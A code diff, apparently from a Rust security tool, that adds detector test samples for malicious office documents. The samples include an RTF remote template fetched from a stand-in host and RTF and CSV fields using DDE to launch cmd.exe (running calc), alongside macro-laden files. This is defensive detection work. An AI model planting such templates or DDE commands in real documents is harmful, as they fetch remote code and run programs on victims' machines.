@@ -38,10 +38,25 @@ pub(super) fn all() -> Vec<Standin> {
     let outside = |name, what, relations, xml| Standin::new("A9", "formats/ooxml", name, what, word(relations, xml));
     // The class of the Equation Editor, {0002CE02-0000-0000-C000-000000000046}.
     let equation = ole1("Equation.3", &[&b"\x02\xce\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"[..], &[0; 40]].concat());
+    let rich = |name, what, text: &str, finding| {
+        Standin::new("A11", "detect/documents", name, what, text.as_bytes().to_vec()).finds(finding).held()
+    };
     let table = |name, what, text: &str| {
         Standin::new("A9", "detect/documents", name, what, text.as_bytes().to_vec()).finds("document.dde-cell").held()
     };
     let mut all = vec![
+        rich(
+            "letter.rtf",
+            "a Rich Text document with a remote template",
+            "{\\rtf1{\\*\\template \\'68ttps://host.invalid/a.dotm}Hello}",
+            "document.remote-template",
+        ),
+        rich(
+            "letter.rtf",
+            "a Rich Text document with a field that runs a program",
+            "{\\rtf1{\\field{\\*\\fldinst{ DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc\"}}}}",
+            "document.dde-field",
+        ),
         table("prices.csv", "a table with a cell that runs a command", "item,price\r\n=cmd|'/c calc'!A1,2\r\n"),
         with_macro("a.docm", "a Word document with a macro", docm(MACRO)).kind("docm"),
         with_macro("a.xlsm", "an Excel workbook with a macro", xlsm(MACRO)).kind("xlsm"),
